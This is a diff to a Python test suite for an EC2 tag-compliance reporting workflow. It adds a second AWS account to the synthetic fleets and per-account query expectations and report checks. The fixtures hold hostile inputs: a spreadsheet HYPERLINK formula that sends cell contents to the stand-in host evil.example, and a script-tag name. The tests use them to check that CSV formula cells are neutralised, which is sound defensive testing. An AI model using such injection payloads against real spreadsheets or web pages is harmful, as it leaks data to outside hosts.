@@ -6,7 +6,9 @@ execution's start, so runs on different days are simulated afterwards: the first
 `evaluated_at` moved 40 and 10 days back in both their `summary.json` and every line of their
 `findings.jsonl` (the local tables derive `dt` from it, as the deployed workflow derives the S3
 partition from the same timestamp). Every expectation is computed here in Python from the
-findings files, independently of the SQL.
+findings files, independently of the SQL. The fleets span two accounts (two reservations with
+different OwnerIds in one describe-instances dump), so the per-account queries and reports have
+something to group.
 """
 
 from __future__ import annotations
@@ -35,6 +37,7 @@ from workflow.local_query import (
 )
 
 ACCOUNT = "111122223333"
+SECOND_ACCOUNT = "444455556666"
 GOOD = {"Owner": "ana@example.com", "CostCenter": "CC-0001", "Environment": "prod"}
 HOSTILE_OWNER = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 HOSTILE_NAME = "<script>alert(1)</script>"
@@ -59,15 +62,24 @@ def instance(instance_id: str, region: str, tags: dict[str, str]) -> dict[str, A
     }
 
 
-def fleet(*instances: tuple[str, str, dict[str, str]]) -> dict[str, Any]:
+def fleet(
+    *instances: tuple[str, str, dict[str, str]], second: tuple[tuple[str, str, dict[str, str]], ...] = ()
+) -> dict[str, Any]:
+    """ACCOUNT's instances, and ``second`` ones in SECOND_ACCOUNT."""
+    reservations = [
+        (ACCOUNT, "r-0000000000000001", instances),
+        (SECOND_ACCOUNT, "r-0000000000000002", second),
+    ]
     return {
         "Reservations": [
             {
-                "OwnerId": ACCOUNT,
-                "ReservationId": "r-0000000000000001",
+                "OwnerId": owner,
+                "ReservationId": reservation,
                 "Groups": [],
-                "Instances": [instance(*i) for i in instances],
+                "Instances": [instance(*i) for i in members],
             }
+            for owner, reservation, members in reservations
+            if members
         ]
     }
 
@@ -77,6 +89,17 @@ HOSTILE = (
     "us-east-1",
     {**GOOD, "Owner": HOSTILE_OWNER, "Name": HOSTILE_NAME, "Team": HOSTILE_TEAM},
 )
+# In SECOND_ACCOUNT: i-a2 is never compliant, i-a1 breaks in run C with the same owner and the same
+# missing CostCenter as i-1 in ACCOUNT, i-a3 arrives compliant in run C.
+SECOND_A = (
+    ("i-00000000000000a1", "us-east-1", GOOD),
+    ("i-00000000000000a2", "eu-west-1", {**GOOD, "Owner": "dee@example.com", "Environment": "qa"}),
+)
+SECOND_C = (
+    ("i-00000000000000a1", "us-east-1", {"Owner": "bo@example.com", "Environment": "dev"}),
+    SECOND_A[1],
+    ("i-00000000000000a3", "us-east-1", GOOD),
+)
 FLEETS = {
     # i-1 never has a CostCenter; i-3 breaks, is fixed, breaks again; i-2 breaks after run A.
     "run-a": fleet(
@@ -85,6 +108,7 @@ FLEETS = {
         ("i-0000000000000003", "eu-west-1", {**GOOD, "Environment": "Production"}),
         ("i-0000000000000004", "eu-west-1", {"CostCenter": "CC-0002", "Environment": "dev"}),
         HOSTILE,
+        second=SECOND_A,
     ),
     "run-b": fleet(
         ("i-0000000000000001", "us-east-1", {"Owner": "bo@example.com", "Environment": "dev"}),
@@ -92,6 +116,7 @@ FLEETS = {
         ("i-0000000000000003", "eu-west-1", GOOD),
         ("i-0000000000000004", "eu-west-1", {"CostCenter": "CC-0002", "Environment": "dev"}),
         HOSTILE,
+        second=SECOND_A,
     ),
     "run-c": fleet(
         ("i-0000000000000001", "us-east-1", {"Owner": "bo@example.com", "Environment": "dev"}),
@@ -105,6 +130,7 @@ FLEETS = {
         ("i-0000000000000005", "eu-west-1", {"CostCenter": "nope", "Environment": "prod"}),
         ("i-0000000000000006", "eu-west-1", GOOD),
         HOSTILE,
+        second=SECOND_C,
     ),
 }
 
@@ -309,6 +335,91 @@ def expect_longer_than(runs_dir: Path, params: dict[str, int]) -> list[tuple[Any
     return sorted(rows, key=lambda r: (-r[6], r[4] is None, r[4] or "", r[2]))
 
 
+def _worst_rule(findings: list[dict[str, Any]]) -> tuple[str | None, int | None]:
+    breaking: dict[str, set[str]] = defaultdict(set)
+    for f in findings:
+        if not f["compliant"]:
+            for v in f["violations"]:
+                breaking[f"{v['key']}:{v['code']}"].add(f["instance_id"])
+    if not breaking:
+        return None, None
+    worst = min(breaking, key=lambda rule: (-len(breaking[rule]), rule))
+    return worst, len(breaking[worst])
+
+
+def expect_by_account(runs_dir: Path, _params: dict[str, int]) -> list[tuple[Any, ...]]:
+    rows = []
+    for account, members in _grouped(latest(runs_dir), lambda f: f["account_id"]).items():
+        bad = sum(not f["compliant"] for f in members)
+        regions = len({f["region"] for f in members})
+        rows.append(
+            (
+                account,
+                regions,
+                len(members),
+                bad,
+                percentage(len(members) - bad, len(members)),
+                *_worst_rule(members),
+            )
+        )
+    return sorted(rows, key=lambda r: (-r[3], r[0]))
+
+
+def expect_by_account_and_owner(runs_dir: Path, _params: dict[str, int]) -> list[tuple[Any, ...]]:
+    groups = _grouped(
+        latest(runs_dir), lambda f: (f["account_id"], (f["owner"] or "").strip() or "(no owner)")
+    )
+    rows = []
+    for (account, owner), members in groups.items():
+        bad = sum(not f["compliant"] for f in members)
+        if bad:
+            rows.append((account, owner, len(members), bad, percentage(len(members) - bad, len(members))))
+    return sorted(rows, key=lambda r: (r[0], -r[3], r[1]))
+
+
+def expect_by_account_and_rule(runs_dir: Path, _params: dict[str, int]) -> list[tuple[Any, ...]]:
+    instances: dict[tuple[str, str, str], set[str]] = defaultdict(set)
+    count: Counter[tuple[str, str, str]] = Counter()
+    for f in latest(runs_dir):
+        if f["compliant"]:
+            continue
+        for v in f["violations"]:
+            instances[(f["account_id"], v["key"], v["code"])].add(f["instance_id"])
+            count[(f["account_id"], v["key"], v["code"])] += 1
+    rows = [(a, key, code, len(ids), count[(a, key, code)]) for (a, key, code), ids in instances.items()]
+    return sorted(rows, key=lambda r: (r[0], -r[3], r[1], r[2]))
+
+
+def expect_trend_by_account(runs_dir: Path, params: dict[str, int]) -> list[tuple[Any, ...]]:
+    days = params.get("days", 90)
+    today = datetime.now(UTC).date()
+    per_day: dict[tuple[str, str], list[tuple[str, str, list[dict[str, Any]]]]] = defaultdict(list)
+    for run in RUNS:
+        for account, members in _grouped(findings_of(runs_dir, run), lambda f: f["account_id"]).items():
+            stamp = members[0]["evaluated_at"]
+            per_day[(dt_of(stamp), account)].append((stamp, run, members))
+    rows = []
+    for (day, account), scans in sorted(per_day.items()):
+        if (today - date.fromisoformat(day)).days > days:
+            continue
+        _, run, members = max(scans)
+        bad = sum(not f["compliant"] for f in members)
+        exempt = sum(bool(f["exempt"]) for f in members)
+        rows.append(
+            (
+                day,
+                account,
+                len(scans),
+                run,
+                len(members),
+                bad,
+                exempt,
+                percentage(len(members) - bad, len(members)),
+            )
+        )
+    return rows
+
+
 EXPECTATIONS: dict[str, tuple[Callable[[Path, dict[str, int]], list[tuple[Any, ...]]], tuple[str, ...]]] = {
     "noncompliant_latest_run": (
         expect_latest_run,
@@ -340,6 +451,39 @@ EXPECTATIONS: dict[str, tuple[Callable[[Path, dict[str, int]], list[tuple[Any, .
         expect_trend,
         ("day", "runs", "last_run_id", "evaluated", "noncompliant", "exempt", "compliance_percentage"),
     ),
+    "compliance_by_account": (
+        expect_by_account,
+        (
+            "account_id",
+            "regions",
+            "instances",
+            "noncompliant",
+            "compliance_percentage",
+            "worst_rule",
+            "worst_rule_instances",
+        ),
+    ),
+    "noncompliant_by_account_and_owner": (
+        expect_by_account_and_owner,
+        ("account_id", "owner", "instances", "noncompliant", "compliance_percentage"),
+    ),
+    "noncompliant_by_account_and_rule": (
+        expect_by_account_and_rule,
+        ("account_id", "tag_key", "violation", "instances", "violations"),
+    ),
+    "compliance_trend_by_account": (
+        expect_trend_by_account,
+        (
+            "day",
+            "account_id",
+            "runs",
+            "last_run_id",
+            "evaluated",
+            "noncompliant",
+            "exempt",
+            "compliance_percentage",
+        ),
+    ),
     "noncompliant_longer_than_days": (
         expect_longer_than,
         (
@@ -356,6 +500,7 @@ EXPECTATIONS: dict[str, tuple[Callable[[Path, dict[str, int]], list[tuple[Any, .
 }
 CASES = [(name, {}) for name in EXPECTATIONS] + [
     ("compliance_trend_daily", {"days": 20}),
+    ("compliance_trend_by_account", {"days": 20}),
     ("noncompliant_longer_than_days", {"days": 5}),
     ("noncompliant_longer_than_days", {"days": 0}),
 ]
@@ -368,6 +513,9 @@ def test_every_named_query_has_an_expectation() -> None:
 def test_the_scenario_really_spans_days_and_changes(runs_dir: Path) -> None:
     days = sorted({dt_of(summary_of(runs_dir, r)["evaluated_at"]) for r in RUNS})
     assert len(days) == 3
+    assert sorted(summary_of(runs_dir, "run-c")["by_account"]) == [ACCOUNT, SECOND_ACCOUNT]
+    owners = {(f["account_id"], f["owner"]) for f in latest(runs_dir) if not f["compliant"]}
+    assert {(ACCOUNT, "bo@example.com"), (SECOND_ACCOUNT, "bo@example.com")} <= owners
     assert expect_longer_than(runs_dir, {"days": 30})  # someone has been noncompliant for 40 days
     assert len(expect_longer_than(runs_dir, {"days": 5})) > len(expect_longer_than(runs_dir, {"days": 30}))
 
@@ -534,7 +682,11 @@ def test_report_csv_has_every_finding_with_formula_cells_neutralised(runs_dir: P
     )
     with out.open(encoding="utf-8", newline="") as handle:
         rows = list(csv.DictReader(handle))
-    assert [r["instance_id"] for r in rows] == [f["instance_id"] for f in findings_of(runs_dir, "run-c")]
+    # Grouped by account, in the run's order within each account.
+    by_account = sorted(findings_of(runs_dir, "run-c"), key=lambda f: f["account_id"])
+    assert [(r["account_id"], r["instance_id"]) for r in rows] == [
+        (f["account_id"], f["instance_id"]) for f in by_account
+    ]
     hostile = next(r for r in rows if r["instance_id"] == "i-0000000000000099")
     assert hostile["owner"] == "'" + HOSTILE_OWNER
     assert hostile["name"] == HOSTILE_NAME
@@ -588,4 +740,18 @@ def test_report_table_prints_totals_and_owner_groups(
     totals = summary_of(runs_dir, "run-c")["totals"]
     assert "Run run-c" in out and f"{totals['compliance_percentage']}%" in out
     assert "(no owner) (1 noncompliant)" in out
+    # Two accounts: a per-account table, and the noncompliant instances under each account.
+    findings = findings_of(runs_dir, "run-c")
+    for account in (ACCOUNT, SECOND_ACCOUNT):
+        mine = [f for f in findings if f["account_id"] == account]
+        bad = sum(not f["compliant"] for f in mine)
+        assert f"Account {account}: {bad} noncompliant" in out
+        row = next(line for line in out.splitlines() if line.startswith(f"│ {account} "))
+        assert [c.strip() for c in row.strip("│").split("│")] == [
+            account,
+            str(len(mine)),
+            str(bad),
+            str(percentage(len(mine) - bad, len(mine))),
+        ]
+    assert out.index("By account") < out.index("By region") < out.index(f"Account {ACCOUNT}:")
     assert "\u202e" not in out and "payments\\u202e" not in out  # the Team tag is not in the table
